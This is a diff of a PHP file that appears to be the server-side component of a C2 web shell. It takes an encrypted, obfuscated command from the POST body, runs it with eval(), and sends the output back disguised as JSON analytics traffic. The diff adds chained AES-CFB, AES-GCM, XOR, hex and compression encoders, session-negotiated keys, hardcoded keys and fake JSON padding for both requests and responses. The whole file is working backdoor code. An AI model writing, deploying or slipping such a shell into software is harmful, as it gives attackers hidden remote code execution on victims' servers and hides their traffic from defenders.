@@ -1,12 +1,36 @@
 <?php
 @ini_set("display_errors", "0");
 @set_time_limit(0);
+// aes: iv(16) + 密文(CFB)，与 core.AESEncode 一致，密钥长度决定 AES-128/192/256
+function aes_encrypt($data, $key) {
+    $iv = random_bytes(16);
+    return $iv . openssl_encrypt($data, 'aes-' . (strlen($key) * 8) . '-cfb', $key, OPENSSL_RAW_DATA, $iv);
+}
 function aes_decrypt($data, $key) {
     $iv = substr($data, 0, 16);
     $cipherText = substr($data, 16);
-    $decrypted = openssl_decrypt($cipherText, 'aes-128-cfb', $key, OPENSSL_RAW_DATA, $iv);
+    $decrypted = openssl_decrypt($cipherText, 'aes-' . (strlen($key) * 8) . '-cfb', $key, OPENSSL_RAW_DATA, $iv);
     return $decrypted;
 }
+// aes-gcm: nonce(12) + 密文 + tag(16)，与 core.AESGCMEncode 一致
+function aes_gcm_encrypt($data, $key) {
+    $nonce = random_bytes(12);
+    $tag = '';
+    $cipherText = openssl_encrypt($data, 'aes-' . (strlen($key) * 8) . '-gcm', $key, OPENSSL_RAW_DATA, $nonce, $tag, '', 16);
+    return $nonce . $cipherText . $tag;
+}
+function aes_gcm_decrypt($data, $key) {
+    if (strlen($data) < 28) {
+        return false;
+    }
+    $nonce = substr($data, 0, 12);
+    $tag = substr($data, -16);
+    $cipherText = substr($data, 12, -16);
+    // 校验失败返回false，不再执行被篡改的数据
+    return openssl_decrypt($cipherText, 'aes-' . (strlen($key) * 8) . '-gcm', $key, OPENSSL_RAW_DATA, $nonce, $tag);
+}
+// 压缩编解码与PHP内置函数对应:
+// gzip => gzencode/gzdecode, deflate => gzdeflate/gzinflate, zlib => gzcompress/gzuncompress
 function hex2bin_custom($hexString) {
     $binData = '';
     for ($i = 0; $i < strlen($hexString); $i += 2) {
@@ -24,17 +48,76 @@ function xor_with_key($data, $key) {
     }
     return $output;
 }
+// 按编解码链解码，链中编码器依次作用，解码时逆序；校验失败或不支持的编码返回false
+function decode_chain($data, $chain, $aeskey, $xorkey) {
+    foreach (array_reverse(explode('->', $chain)) as $codec) {
+        switch (trim($codec)) {
+            case 'base64': $data = base64_decode($data, true); break;
+            case 'hex': $data = hex2bin_custom($data); break;
+            case 'xor': $data = xor_with_key($data, $xorkey); break;
+            case 'aes': $data = aes_decrypt($data, $aeskey); break;
+            case 'aes-gcm': $data = aes_gcm_decrypt($data, $aeskey); break;
+            case 'gzip': $data = @gzdecode($data); break;
+            case 'deflate': $data = @gzinflate($data); break;
+            case 'zlib': $data = @gzuncompress($data); break;
+            default: return false;
+        }
+        if ($data === false) {
+            return false;
+        }
+    }
+    return $data;
+}
+function encode_chain($data, $chain, $aeskey, $xorkey) {
+    foreach (explode('->', $chain) as $codec) {
+        switch (trim($codec)) {
+            case 'base64': $data = base64_encode($data); break;
+            case 'hex': $data = bin2hex($data); break;
+            case 'xor': $data = xor_with_key($data, $xorkey); break;
+            case 'aes': $data = aes_encrypt($data, $aeskey); break;
+            case 'aes-gcm': $data = aes_gcm_encrypt($data, $aeskey); break;
+            case 'gzip': $data = gzencode($data); break;
+            case 'deflate': $data = gzdeflate($data); break;
+            case 'zlib': $data = gzcompress($data); break;
+            default: return false;
+        }
+        if ($data === false) {
+            return false;
+        }
+    }
+    return $data;
+}
 
+// 与C2配置的 encode_chain、填充保持一致
+$requestChain = 'hex->base64';
+$responseChain = 'xor->base64';
+$requestFront = '{"kvs":{"SaveLogResult":[0]},"tags":{"isSucc":true,"sdkVersion":"2.1.4","projectName":"Publish"},"extraData":"';
+$requestBack = '"}';
+$responseFront = '{"code":0,"data":{"suggestItems":[],"global":"e1JTQX0pZ';
+$responseBack = '","exData":{"api_flow01":"0","api_flow02":"0","api_flow03":"1","api_flow04":"0","api_flow05":"0","api_flow06":"0","api_flow07":"0","api_tag":"2","local_cityid":"-1"}}}';
 $aeskey = base64_decode("lY4XTVY+PNCMoFwxjHsWQi0jW0oNqfScVIUk/KE6a3M=");
+$xorkey = base64_decode("UXwoRqMyaRkUxjvKifu2rw==");
+// 已协商会话密钥时替换静态密钥(前32字节AES，后32字节XOR)
+if (isset($_COOKIE[session_name()])) {
+    @session_start();
+    if (isset($_SESSION['caffeine_key'])) {
+        $aeskey = substr($_SESSION['caffeine_key'], 0, strlen($aeskey));
+        $xorkey = substr($_SESSION['caffeine_key'], 32, 32);
+    }
+    session_write_close();
+}
 $requestBody = file_get_contents("php://input");
-$middlePart = substr($requestBody, 110, strlen($requestBody) -114);
-$base64Decoded = base64_decode($middlePart);
-$hexDecoded = hex2bin_custom(bin2hex($base64Decoded));
-$code=hex2bin_custom($hexDecoded);
+$middlePart = substr($requestBody, strlen($requestFront), strlen($requestBody) - strlen($requestFront) - strlen($requestBack));
+$code = decode_chain($middlePart, $requestChain, $aeskey, $xorkey);
+// 解码或认证失败时不执行
+if ($code === false) {
+    exit;
+}
 ob_start();
 eval($code);
 $output = ob_get_clean();
-$xorResult = xor_with_key($output, base64_decode("UXwoRqMyaRkUxjvKifu2rw=="));
-$res = base64_encode($xorResult);
-echo '{"code":0,"data":{"suggestItems":[],"global":"e1JTQX0pZ'.$res.'","exData":{"api_flow01":"0","api_flow02":"0","api_flow03":"1","api_flow04":"0","api_flow05":"0","api_flow06":"0","api_flow07":"0","api_tag":"2","local_cityid":"-1"}}}';
+$res = encode_chain($output, $responseChain, $aeskey, $xorkey);
+// 与配置 response.headers 一致，客户端会校验响应类型
+header('Content-Type: application/json');
+echo $responseFront . $res . $responseBack;
 ?>